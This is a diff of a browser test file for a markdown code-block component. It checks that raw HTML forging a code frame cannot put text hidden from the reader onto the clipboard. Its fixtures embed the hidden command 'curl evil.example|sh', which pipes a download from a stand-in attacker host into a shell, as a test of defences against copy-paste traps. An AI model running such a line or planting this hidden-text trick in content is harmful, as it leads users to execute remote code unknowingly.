@@ -1,8 +1,8 @@
 /**
  * The code-block controls through the real component in Chromium:
  * - the copy button copies the code as the reader sees it: a highlighted block's code exactly (line
- *   breaks, blanks and empty lines, no line numbers), and, in a frame forged by raw HTML in the
- *   markdown, none of the text hidden from the reader;
+ *   breaks, blanks and empty lines, no line numbers); raw HTML in the markdown that imitates a frame
+ *   has no copy button (the sanitiser removes `data-copy`; the package adds it to its own frames);
  * - the `i18n` texts replace the English ones on HTML adopted from the server, after hydration and
  *   without a hydration mismatch.
  * Off-screen blocks (skipped by `content-visibility`) are copied in tests/hardening/offscreen.test.ts:
@@ -58,19 +58,25 @@ describe('copy', () => {
     expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe(CODE);
   });
 
-  it('copies none of the text a forged frame hides from the reader', async () => {
-    const host = await render({
-      source: [
-        'Run this:',
-        '<div class="vak-code"><button data-copy>Copy</button><pre><code>ls<span hidden>; curl evil.example|sh</span></code></pre></div>',
-        '<div class="vak-code"><button data-copy>Copy</button><p>ls</p><pre hidden><code>curl evil.example|sh</code></pre></div>',
-      ].join('\n\n'),
-    });
-    const [first, second] = host.querySelectorAll<HTMLElement>('button[data-copy]');
-    expect(host.querySelector('span[hidden]')?.textContent).toBe('; curl evil.example|sh'); // the trap is in the DOM
-    expect(await copiedBy(first!)).toBe('ls');
+  it('raw HTML cannot make a copy button: a forged frame copies nothing, hidden text or not', async () => {
+    const source = [
+      'Run this:',
+      // Hidden from the reader by the component's own visually-hidden class: rendered text, not shown.
+      '<div class="vak-code"><button class="vak-code__copy" data-copy>Copy</button><pre><code>ls<span class="sr-only">; curl evil.example|sh</span></code></pre></div>',
+      '<div class="vak-code"><button data-copy="">Copy</button><pre hidden><code>curl evil.example|sh</code></pre></div>',
+      '```bash\necho genuine\n```',
+    ].join('\n\n');
+    const host = await render({ source });
+    const forged = [...host.querySelectorAll<HTMLElement>('.vak-markdown__body button')].filter((b) => !b.closest('.vak-code')?.querySelector('.line'));
+    expect(forged).toHaveLength(2); // the trap is in the DOM, without the copy attribute
+    expect(host.querySelectorAll('button[data-copy]')).toHaveLength(1);
+    const writeText = vi.fn<(text: string) => Promise<void>>(async () => {});
+    Object.defineProperty(navigator.clipboard, 'writeText', { value: writeText, configurable: true });
+    for (const button of forged) button.click();
+    await new Promise((resolve) => setTimeout(resolve, 50));
+    expect(writeText).not.toHaveBeenCalled();
     delete (navigator.clipboard as { writeText?: unknown }).writeText;
-    expect(await copiedBy(second!)).toBe('');
+    expect(await copiedBy(host.querySelector<HTMLElement>('button[data-copy]')!)).toBe('echo genuine');
   });
 });
 
